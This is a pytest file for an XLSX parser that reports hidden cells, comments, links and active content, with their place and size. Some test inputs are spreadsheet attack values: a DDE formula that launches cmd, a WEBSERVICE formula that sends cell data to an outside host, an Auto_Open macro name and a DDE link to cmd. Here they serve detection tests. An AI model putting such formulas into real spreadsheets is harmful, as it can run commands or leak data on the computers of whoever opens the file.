"""What an XLSX keeps from its reader is named with its place and size; white on a dark header row is not hidden."""

from __future__ import annotations

from pathlib import Path

import pytest

from frostbyte.parse import xlsx
from frostbyte.parse.elements import Reading
from frostbyte.parse.xlsx_cells import area, letters

from .office_files import NAMESPACES, links, rows
from .office_files import xlsx as made

XFS = [
    (0, 0, 0),
    (0, 1, 0),
    (0, 2, 0),
    (0, 3, 0),
    (0, 4, 3),
    (0, 1, 2),
    (0, 5, 0),
    (0, 0, 3),
    (164, 0, 0),
    (165, 0, 0),
    (166, 0, 0),
]
"""Number format, font and fill of each cell style."""
STYLES = (
    '<x:numFmts><x:numFmt numFmtId="164" formatCode=";;;"/><x:numFmt numFmtId="165" formatCode="0;-0;;@"/>'
    '<x:numFmt numFmtId="166" formatCode="&quot;&quot;;&quot;&quot;;&quot;&quot;"/></x:numFmts>'
    '<x:fonts><x:font><x:sz val="11"/><x:color theme="1"/></x:font><x:font><x:color rgb="FFFFFFFF"/></x:font>'
    '<x:font><x:color theme="0"/></x:font><x:font><x:sz val="1"/></x:font><x:font><x:color rgb="FF808080"/></x:font>'
    '<x:font><x:color theme="0" tint="-0.5"/></x:font></x:fonts>'
    '<x:fills><x:fill><x:patternFill patternType="none"/></x:fill><x:fill><x:patternFill patternType="gray125"/></x:fill>'
    '<x:fill><x:patternFill patternType="solid"><x:fgColor rgb="FF1F3864"/></x:patternFill></x:fill>'
    '<x:fill><x:patternFill patternType="solid"><x:fgColor rgb="FF828282"/></x:patternFill></x:fill></x:fills>'
    "<x:cellXfs>"
    + "".join(f'<x:xf numFmtId="{number}" fontId="{font}" fillId="{fill}"/>' for number, font, fill in XFS)
    + "</x:cellXfs><x:dxfs><x:dxf><x:fill/></x:dxf><x:dxf><x:font/></x:dxf></x:dxfs>"
)
WHITE, THEME, TINY, GRAY_ON_GRAY, WHITE_ON_DARK, DARKER, BLACK_ON_GRAY, NOTHING, NO_ZERO, NO_NUMBER = range(1, 11)


def read(folder: Path, *sheets: str, **more: object) -> Reading:
    return xlsx.read(made(folder, *sheets, styles=STYLES, **more))  # type: ignore[arg-type]


def cell(at: str, value: str | float, style: int = 0) -> str:
    if isinstance(value, str):
        return f'<x:c r="{at}" s="{style}" t="inlineStr"><x:is><x:t>{value}</x:t></x:is></x:c>'
    return f'<x:c r="{at}" s="{style}"><x:v>{value}</x:v></x:c>'


def sheet(*cells: str) -> str:
    """Two rows: names in the first, the given cells in the second."""
    names = cell("A1", "name") + cell("B1", "sum") + cell("C1", "note")
    return f'<x:sheetData><x:row r="1">{names}</x:row><x:row r="2">{"".join(cells)}</x:row></x:sheetData>'


def hidden(found: Reading) -> list[tuple[str, str]]:
    pages = {page.number: page.text for page in found.pages}
    return [(span.kind, pages[span.page][span.page_start : span.page_end]) for span in found.hidden]


def dropped(found: Reading) -> list[tuple[str, str, str, int]]:
    return [(d.element_type, d.reason, d.place, d.characters) for d in found.dropped]


@pytest.mark.parametrize(("style", "kind"), [(WHITE, "colour"), (THEME, "colour"), (GRAY_ON_GRAY, "colour"), (TINY, "tiny")])
def test_cells_that_cannot_be_seen_stay_and_are_marked(tmp_path: Path, style: int, kind: str) -> None:
    found = read(tmp_path, sheet(cell("A2", "pump"), cell("B2", 7), cell("C2", "say nothing", style)))
    assert found.elements[-1].text == "name\tsum\tnote\npump\t7\tsay nothing"
    assert hidden(found) == [(kind, "say nothing")]
    assert [(w.code, w.page, w.characters) for w in found.warnings] == [
        ("WHITE_TEXT" if kind == "colour" else "TINY_TEXT", 1, 11)
    ]


@pytest.mark.parametrize("style", [WHITE_ON_DARK, DARKER, BLACK_ON_GRAY, NO_ZERO])
def test_cells_that_can_be_seen_are_not_marked(tmp_path: Path, style: int) -> None:
    found = read(tmp_path, sheet(cell("A2", "pump", style), cell("B2", 7, style), cell("C2", "tested", style)))
    assert (hidden(found), found.warnings, found.dropped) == ([], (), ())


def test_a_lone_cell_that_cannot_be_seen_is_marked_too(tmp_path: Path) -> None:
    alone = f'<x:sheetData><x:row r="1">{cell("A1", "alone", WHITE)}</x:row></x:sheetData>'
    assert hidden(read(tmp_path, alone)) == [("colour", "alone")]


def table(style: str) -> dict[str, str | bytes]:
    info = f'<x:tableStyleInfo name="{style}"/>'
    return {
        "xl/worksheets/_rels/sheet1.xml.rels": links({"t": ("table", "../tables/table1.xml")}),
        "xl/tables/table1.xml": f'<x:table {NAMESPACES} ref="A1:C2">{info}</x:table>',
    }


def test_a_table_puts_a_dark_ground_under_its_header_row_and_no_other(tmp_path: Path) -> None:
    head = f'<x:sheetData><x:row r="1">{cell("A1", "name", WHITE)}{cell("B1", "sum", WHITE)}</x:row>'
    data = head + f'<x:row r="2">{cell("A2", "pump")}{cell("B2", "hush", WHITE)}</x:row></x:sheetData>'
    assert hidden(read(tmp_path, data)) == [("colour", "name"), ("colour", "sum"), ("colour", "hush")]
    assert hidden(read(tmp_path, data, more=table("TableStyleMedium2"))) == [("colour", "hush")]
    assert hidden(read(tmp_path, data, more=table("TableStyleDark1"))) == []


@pytest.mark.parametrize(("format_id", "expected"), [("0", []), ("1", [("colour", "hush")])])
def test_a_conditional_format_may_put_a_ground_under_a_cell(
    tmp_path: Path, format_id: str, expected: list[tuple[str, str]]
) -> None:
    rule = f'<x:conditionalFormatting sqref="A1 B2:C9"><x:cfRule type="cellIs" dxfId="{format_id}"/></x:conditionalFormatting>'
    assert hidden(read(tmp_path, sheet(cell("A2", "pump"), cell("B2", "hush", WHITE)) + rule)) == expected


def test_cells_formatted_away_are_left_out_by_address(tmp_path: Path) -> None:
    found = read(tmp_path, sheet(cell("A2", "pump"), cell("B2", 1234, NOTHING), cell("C2", "hush", NOTHING)))
    assert found.elements[-1].text == "name\tsum\tnote\npump\t\t"
    assert dropped(found) == [("table_cell", "HIDDEN_CELL", "cells B2, C2", 8)]
    numbers_only = read(tmp_path, sheet(cell("A2", "pump"), cell("B2", 1234, NO_NUMBER), cell("C2", "told", NO_NUMBER)))
    assert dropped(numbers_only) == [("table_cell", "HIDDEN_CELL", "cells B2", 4)]


def test_hidden_rows_columns_and_sheets_have_places_and_sizes(tmp_path: Path) -> None:
    columns = '<x:cols><x:col min="2" max="2" hidden="1"/><x:col min="4" max="4" width="0.1"/></x:cols>'
    data = rows(["a", "bb", "c", "dd"], ["eee", "f", "g", "h"], ["i", "j", "k", "l"])
    data = data.replace('<x:row r="2">', '<x:row r="2" ht="0.5" customHeight="1">')
    found = read(tmp_path, columns + data, data, data, attributes={2: 'state="hidden"', 3: 'state="veryHidden"'})
    assert dropped(found) == [
        ("table_row", "HIDDEN_ROW", "rows 2", 6),
        ("table_column", "HIDDEN_COLUMN", "columns B, D", 6),
        ("sheet", "HIDDEN_SHEET", "sheet 2", 16),
        ("sheet", "VERY_HIDDEN_SHEET", "sheet 3", 16),
    ]
    assert "bb" not in "".join(page.text for page in found.pages)


def test_many_hidden_rows_are_counted_not_listed(tmp_path: Path) -> None:
    data = rows(*[["x", "y"]] * 40).replace("<x:row ", '<x:row hidden="1" ')
    assert dropped(read(tmp_path, data, rows(["a"]))) == [
        ("table_row", "HIDDEN_ROW", "rows 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 and 30 more", 80)
    ]


def test_every_comment_is_left_out_with_its_cell(tmp_path: Path) -> None:
    notes = (
        f'<x:comments {NAMESPACES}><x:commentList><x:comment ref="B2"><x:text><x:t>hush</x:t></x:text></x:comment>'
        '<x:comment ref="C3"><x:text><x:t>no</x:t></x:text></x:comment></x:commentList></x:comments>'
    )
    thread = '<ThreadedComments xmlns="urn:x"><threadedComment ref="B2"><text>hush</text></threadedComment></ThreadedComments>'
    more: dict[str, str | bytes] = {
        "xl/worksheets/_rels/sheet1.xml.rels": links(
            {"c": ("comments", "../comments1.xml"), "t": ("threadedComment", "../thread1.xml"), "x": ("comments", "../none.xml")}
        ),
        "xl/comments1.xml": notes,
        "xl/thread1.xml": thread,
    }
    assert dropped(read(tmp_path, rows(["a"]), more=more)) == [
        ("comment", "COMMENT", "cell B2", 4),
        ("comment", "COMMENT", "cell C3", 2),
        ("comment", "COMMENT", "cell B2", 4),
        ("comment", "COMMENT", "", 0),
    ]


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ('WEBSERVICE("https://example.org/?"&amp;A1)', ("formula", "ACTIVE_FORMULA", "cells B2")),
        ("cmd|'/c calc'!A0", ("formula", "ACTIVE_FORMULA", "cells B2")),
        ('HYPERLINK("https://example.org","see")', ("link", "LINK_TARGET", "")),
        ("SUM(A1:A9)", None),
        ("Prices!B2*1.2", None),
    ],
)
def test_a_formula_that_reaches_out_is_named(tmp_path: Path, code: str, expected: tuple[str, str, str] | None) -> None:
    found = read(tmp_path, sheet(cell("A2", "pump"), f'<x:c r="B2"><x:f>{code}</x:f><x:v>7</x:v></x:c>'))
    assert found.elements[-1].text.endswith("pump\t7\t")
    assert [item[:3] for item in dropped(found)] == ([expected] if expected else [])


@pytest.mark.parametrize(
    ("validation", "size"),
    [
        ('<x:dataValidation prompt="say nothing"/>', 11),
        ('<x:dataValidation type="list"><x:formula1>"yes,no"</x:formula1></x:dataValidation>', 8),
        ('<x:dataValidation type="list"><x:formula1>$A$1:$A$9</x:formula1></x:dataValidation>', 0),
    ],
)
def test_messages_and_choices_of_cells_are_named(tmp_path: Path, validation: str, size: int) -> None:
    found = read(tmp_path, rows(["a"]) + f"<x:dataValidations>{validation}</x:dataValidations>")
    assert dropped(found) == ([("data_validation", "DATA_VALIDATION", "", size)] if size else [])


@pytest.mark.parametrize(
    ("name", "value", "reason"),
    [
        ("note", '"say nothing of this"', "DEFINED_NAME"),
        ("_xlnm.Auto_Open", "Macro1!$A$1", "AUTO_MACRO_NAME"),
        ("_xlnm.Print_Area", "Sheet1!$A$1:$B$2", None),
        ("rate", "0.25", None),
    ],
)
def test_names_that_hold_words_or_run_something_are_named(tmp_path: Path, name: str, value: str, reason: str | None) -> None:
    defined = f'<x:definedNames><x:definedName name="{name}">{value}</x:definedName></x:definedNames>'
    found = read(tmp_path, rows(["a"]), properties=defined)
    assert [item.reason for item in found.dropped] == ([reason] if reason else [])


@pytest.mark.parametrize(
    ("inner", "reason"), [('<x:ddeLink ddeService="cmd"/>', "DDE_LINK"), ("<x:externalBook/>", "EXTERNAL_LINK")]
)
def test_a_link_that_starts_a_program_is_told_from_one_to_a_file(tmp_path: Path, inner: str, reason: str) -> None:
    more: dict[str, str | bytes] = {"xl/externalLinks/link1.xml": f"<x:externalLink {NAMESPACES}>{inner}</x:externalLink>"}
    found = read(tmp_path, rows(["a"]), more=more, links_to={"e": ("externalLink", "externalLinks/link1.xml")})
    assert dropped(found) == [("external_link", reason, "", 0)]


def test_links_and_data_of_other_programs_are_named(tmp_path: Path) -> None:
    more: dict[str, str | bytes] = {
        "xl/worksheets/_rels/sheet1.xml.rels": links({"h": ("hyperlink", "https://example.org", "External")}),
        "customXml/item1.xml": "<data>hush</data>",
    }
    assert dropped(read(tmp_path, rows(["a"]), more=more)) == [
        ("custom_xml", "CUSTOM_XML", "", 4),
        ("link", "LINK_TARGET", "", 19),
    ]


def test_addresses() -> None:
    assert [letters(n) for n in (1, 26, 27, 702, 703, 16_384)] == ["A", "Z", "AA", "ZZ", "AAA", "XFD"]
    assert area("$B$2:D9") == (range(2, 10), range(2, 5))
    assert area("C3") == (range(3, 4), range(3, 4))
    assert area("A:A") == area("") == (range(0), range(0))
